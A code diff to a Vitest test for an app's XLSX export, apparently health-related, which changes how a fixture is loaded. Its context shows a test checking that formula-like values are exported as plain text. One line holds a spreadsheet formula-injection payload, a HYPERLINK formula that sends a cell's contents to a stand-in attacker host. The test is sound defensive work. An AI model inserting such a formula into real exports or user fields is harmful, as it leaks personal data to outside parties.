@@ -2,7 +2,7 @@
 // return is read as text by any spreadsheet.
 import { afterEach, beforeEach, describe, expect, it } from 'vitest';
 import ExcelJS from 'exceljs';
-import { loadFixtures } from '@bilan/fixtures';
+import { fixtureOf } from '@bilan/fixtures';
 import { auth, buildTestApp, type TestApp } from '../../test/helpers';
 import { enableLogin, login, submittedForm } from '../../test/accounts';
 import { spreadsheetCell } from './spreadsheetCell';
@@ -20,8 +20,7 @@ const HYPERLINK = '=HYPERLINK("http://attaquant.test/?d="&A1,"Cliquez ici")';
 
 describe('the XLSX export', () => {
   it('reads a patient named =HYPERLINK(...) and formula-like answers back as text, never as formulas', async () => {
-    const typical = loadFixtures('45to50').find((f) => f.name === 'typical');
-    if (!typical) throw new Error('fixture 45to50/typical missing');
+    const typical = fixtureOf('45to50', 'typical');
     const answers = {
       ...typical.expected.normalized,
       healthQuestions: { ...typical.expected.normalized.healthQuestions, otherSexualHealth: '+33 6 12 34 56 78' },
